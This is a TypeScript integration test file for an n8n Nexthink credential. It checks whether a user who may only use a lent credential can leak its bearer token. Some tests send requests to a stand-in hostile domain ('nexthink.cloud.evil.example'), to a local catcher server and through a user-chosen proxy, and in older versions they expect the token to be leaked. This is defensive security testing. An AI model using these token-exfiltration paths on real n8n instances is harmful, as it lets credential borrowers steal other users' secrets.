import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { INode } from 'n8n-workflow';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Tenant } from '../simulator/tenant.mts';
import { createWorkflow, runInEditor } from './harness/editor-runs.mts';
import type { SavedExecution } from './harness/executions.mts';
import { inviteMember, type Member } from './harness/member.mts';
import { outcomesOf, sumsOf } from './harness/outcomes.mts';
import { watchOutwardRequests, type OutwardRequests } from './harness/outward-requests.mts';
import { startServer, type N8nServer } from './harness/server.mts';
import { credentialData, CREDENTIAL_TYPE, startTenantOfRun } from './harness/tenant.mts';
import { createUserFolder } from './harness/user-folders.mts';
import { listNode, manualTrigger, nexthinkNode, workflowOf } from './harness/workflows.mts';

const run = inject('run');

interface Stranger {
	readonly origin: string;
	/** The bearers that arrived, in order; empty text for a request without one. */
	readonly bearers: string[];
	readonly server: Server;
}

async function startStranger(): Promise<Stranger> {
	const bearers: string[] = [];
	const server = createServer((request, response) => {
		bearers.push(request.headers.authorization ?? '');
		response.end('{}');
	});
	server.listen(0, '127.0.0.1');
	await once(server, 'listening');
	const { port } = server.address() as AddressInfo;
	return { origin: `http://127.0.0.1:${port}`, bearers, server };
}

describe.each(['newest', 'oldest'] as const)(
	'a user who may only use the credential, in the %s n8n',
	(version) => {
		let outward: OutwardRequests;
		let server: N8nServer;
		let tenant: Tenant;
		let member: Member;
		let stranger: Stranger;

		beforeAll(async () => {
			outward = await watchOutwardRequests();
			const userFolder = await createUserFolder(run, `http-request-${version}`, version);
			server = await startServer({ version, userFolder, env: outward.env });
			tenant = await startTenantOfRun(run);
			stranger = await startStranger();
			member = await inviteMember(server);
		});

		afterAll(async () => {
			await server?.stop();
			await outward.close();
			await tenant.close();
			stranger.server.close();
			stranger.server.closeAllConnections();
		});

		/** A credential of the owner's, which the member may use. Out: its id. */
		async function lent(fields: Readonly<Record<string, string>> = {}): Promise<string> {
			const data = { ...credentialData(tenant), ...fields };
			const body = { name: 'Nexthink account', type: CREDENTIAL_TYPE, data };
			const { id } = await server.rest.post<{ id: string }>('/credentials', body);
			await member.lend(id);
			outward.seen.length = 0;
			stranger.bearers.length = 0;
			return id;
		}

		async function request(
			credentialId: string,
			url: string,
			options: Readonly<Record<string, string>> = {},
		): Promise<SavedExecution> {
			const node: INode = {
				id: 'Request',
				name: 'Request',
				type: 'n8n-nodes-base.httpRequest',
				typeVersion: 4.2,
				position: [0, 0],
				parameters: {
					url,
					authentication: 'predefinedCredentialType',
					nodeCredentialType: CREDENTIAL_TYPE,
					options,
				},
				credentials: { [CREDENTIAL_TYPE]: { id: credentialId, name: 'Nexthink account' } },
			};
			const workflow = workflowOf('request', [manualTrigger(), node], [['Start', 'Request']]);
			const { id } = await createWorkflow(member.rest, workflow);
			return await runInEditor(member.rest, id, 'Start');
		}

		it('cannot read it', async () => {
			const path = `/credentials/${await lent()}?includeData=true`;
			await expect(member.rest.get(path)).rejects.toThrow(/could not be found/);
		});

		it('runs the Nexthink node with it, whatever its allowed domains are', async () => {
			const credentialId = await lent({ allowedHttpRequestDomains: 'none' });
			const nodes = [
				manualTrigger(),
				listNode('Devices', tenant.inventory.slice(0, 2)),
				nexthinkNode('Delete', { credentialId }),
			];
			const workflow = workflowOf('delete', nodes, [
				['Start', 'Devices'],
				['Devices', 'Delete'],
			]);
			const { id } = await createWorkflow(member.rest, workflow);
			const execution = await runInEditor(member.rest, id, 'Start');
			expect(sumsOf(outcomesOf(execution, 'Delete'))).toEqual({ SCHEDULED: 2 });
		});

		it("reaches Nexthink's own domains with the HTTP Request node, and the tenant's if they are allowed", async () => {
			await request(await lent(), 'https://acme.api.eu.nexthink.cloud/api/v1/x');
			expect(outward.seen).toContain('acme.api.eu.nexthink.cloud:443');

			const allowedDomains = new URL(tenant.apiBaseUrl).hostname;
			await request(await lent({ allowedDomains }), `${tenant.apiBaseUrl}/api/v1/x`);
			expect(tenant.requests.at(-1)).toMatchObject({
				path: '/api/v1/x',
				bearer: tenant.issuedTokens.at(-1),
			});
		});

		it('reaches nothing with the HTTP Request node if None is chosen', async () => {
			const none = await lent({ allowedHttpRequestDomains: 'none' });
			for (const url of [stranger.origin, 'https://acme.api.eu.nexthink.cloud']) {
				const execution = await request(none, url);
				expect(execution.error?.message).toContain('prevent use within an HTTP Request');
			}
			expect(stranger.bearers).toEqual([]);
			expect(outward.seen).toEqual([]);
		});

		const named = version === 'newest' ? 'is kept from' : 'is not kept from';

		it(`${named} foreign addresses by the default of the credential`, async () => {
			const credentialId = await lent();
			const execution = await request(credentialId, stranger.origin);
			const foreign = await request(credentialId, 'https://nexthink.cloud.evil.example/');
			if (version === 'newest') {
				for (const { error } of [execution, foreign]) {
					expect(error?.message).toMatch(/^Domain not allowed: .*: \*\.nexthink\.cloud$/);
				}
				expect(stranger.bearers).toEqual([]);
				expect(outward.seen).toEqual([]);
			} else {
				// n8n 1 compares the domain of a redirect alone, whatever the credential says (SECURITY.md).
				expect(stranger.bearers).toEqual([`Bearer ${tenant.issuedTokens.at(-1)}`]);
				expect(outward.seen).toEqual(['nexthink.cloud.evil.example:443']);
			}
		});

		it('gets the token through a proxy of their own, as SECURITY.md says', async () => {
			const url = 'http://acme.api.eu.nexthink.cloud/';
			await request(await lent(), url, { proxy: stranger.origin });
			expect(stranger.bearers).toEqual([`Bearer ${tenant.issuedTokens.at(-1)}`]);
		});
	},
);
